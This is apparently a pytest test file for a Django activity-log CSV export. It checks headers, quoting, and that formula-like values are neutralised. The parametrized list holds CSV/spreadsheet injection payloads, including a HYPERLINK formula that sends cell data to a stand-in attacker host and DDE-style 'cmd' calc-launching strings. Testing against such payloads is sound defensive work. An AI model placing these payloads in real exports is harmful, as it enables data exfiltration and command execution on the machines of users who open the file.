"""/activity/export/: the same for a spreadsheet, which must not take it for formulas."""

from __future__ import annotations

import csv
from typing import TYPE_CHECKING

import pytest

from audit import events
from audit.actions import record
from lib.origin import Origin
from tests.audit.tampering import HOME

if TYPE_CHECKING:
    from django.test import Client

    from accounts.user.models import User

pytestmark = pytest.mark.django_db
PAGE = "/activity/export/"


def table(client: Client) -> list[list[str]]:
    return list(csv.reader(client.get(PAGE).content.decode("utf-8-sig").splitlines()))


def test_it_is_a_file_of_every_event(alices: Client, alice: User) -> None:
    for _ in range(60):
        record(events.PASSWORD_WRONG, user=alice, origin=HOME)

    answer = alices.get(PAGE)
    head, newest, *others = table(alices)

    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Content-Disposition"] == 'attachment; filename="activity.csv"'
    assert head == [
        "Time (UTC)", "What", "Kind", "Browser", "Approximate place", "IP address", "User agent", "Done by", "Request",
    ]  # fmt: skip
    assert newest[1:4] == ["A wrong password was tried", "Blocked", "Firefox on Linux"]
    assert newest[4:] == ["", HOME.ip, HOME.user_agent, "", ""]
    assert len(others) == 60


@pytest.mark.parametrize(
    "evil",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"click")',
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "  =1+1",
        "|calc",
    ],
)
def test_no_cell_is_a_formula(alices: Client, alice: User, evil: str) -> None:
    record(events.Event(evil, evil), user=alice, origin=Origin("203.0.113.7", evil))

    _head, newest, _sign_in = table(alices)

    assert newest[1] == newest[6] == f"'{evil}"
    assert not [cell for cell in newest if cell.lstrip().startswith(("=", "+", "-", "@", "|"))]


def test_quotes_and_line_breaks_stay_inside_their_cell(alices: Client, alice: User) -> None:
    record(events.PASSWORD_WRONG, user=alice, origin=Origin("203.0.113.7", 'a","b;\'c'))

    assert table(alices)[1][6] == 'a","b;\'c'


def test_it_says_who_did_it_and_in_which_request(alices: Client, alice: User, bob: User) -> None:
    record(events.PASSWORD_CHANGED, user=alice, origin=HOME.by(bob))

    _head, by_another, sign_in = table(alices)

    assert (by_another[7], by_another[8]) == ("Somebody else", "")
    assert (sign_in[7], len(sign_in[8])) == ("You", 24)
